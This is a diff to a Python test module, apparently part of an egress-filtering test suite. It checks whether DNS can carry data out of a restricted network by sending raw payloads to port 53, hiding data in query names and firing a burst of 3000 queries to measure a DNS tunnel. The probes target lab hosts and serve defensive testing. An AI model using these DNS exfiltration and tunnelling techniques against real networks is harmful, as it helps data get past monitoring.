@@ -1,11 +1,10 @@
 """DNS as a way out: other servers, other transports, data in names."""
-import os
 import random
 import socket
 import struct
 import time
 
-from tools import BLOCKED, BLOCKED6, GATEWAY, WAIT, attack, tcp, udp, worst
+from tools import BLOCKED, BLOCKED6, GATEWAY, PATIENCE, attack, tcp, udp, worst
 
 CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
 SECRET = "exfiltrated.unlisted.lab"  # on no list
@@ -23,14 +22,14 @@ def rcode(answer):
 
 def ask(server, data, family=socket.AF_INET, port=53):
     with socket.socket(family, socket.SOCK_DGRAM) as s:
-        s.settimeout(2)
+        s.settimeout(PATIENCE)
         s.sendto(data, (server, port))
         return rcode(s.recv(4096))
 
 
 def ask_tcp(server, data, family=socket.AF_INET, port=53):
     with socket.socket(family, socket.SOCK_STREAM) as s:
-        s.settimeout(2)
+        s.settimeout(PATIENCE)
         s.connect((server, port))
         s.sendall(struct.pack("!H", len(data)) + data)
         return rcode(s.recv(4096)[2:])
@@ -113,7 +112,7 @@ def dns_hidden_name():
 def dns_not_dns():
     """Anything at all, to port 53."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-        s.settimeout(WAIT)
+        s.settimeout(PATIENCE)
         s.sendto(b"exfiltrated" * 9, (BLOCKED, 53))
         return rcode(s.recv(4096))
 
@@ -121,7 +120,7 @@ def dns_not_dns():
 @attack
 def dns_not_dns_tcp():
     with socket.socket() as s:
-        s.settimeout(WAIT)
+        s.settimeout(PATIENCE)
         s.connect((BLOCKED, 53))
         s.sendall(b"exfiltrated" * 9)
         return "answered" if s.recv(99) else "closed"
@@ -158,12 +157,11 @@ def dns_of_the_line():
 
 def dns_tunnel():
     """3000 names, each with data: how many of them got an answer is the tunnel's width; see attacks.bats for what arrived."""
-    count = 0
+    begun = time.monotonic()
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.setblocking(False)
         s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 21)
         s.connect((GATEWAY, 53))
-        until = time.monotonic() + 2
         for i in range(3000):
             try:
                 s.send(question("tunnelled%d.unlisted.lab" % i))
@@ -172,12 +170,15 @@ def dns_tunnel():
                     raise failure
             if i % 20 == 0:
                 time.sleep(0.005)
-        while time.monotonic() < until:
-            try:
+        s.settimeout(1.5)
+        count, last = 0, time.monotonic()
+        try:
+            while True:
                 count += s.recv(512)[3] & 15 == 3
-            except OSError:
-                time.sleep(0.01)
-    width = int(os.environ.get("TUNNEL", "700"))  # a burst of 500, and 50 a second
+                last = time.monotonic()
+        except OSError:
+            pass
+    width = 550 + 50 * (last - begun)  # a burst of 500, and 50 a second
     return "none" if count == 0 else "narrow" if count <= width else "open"
 
 
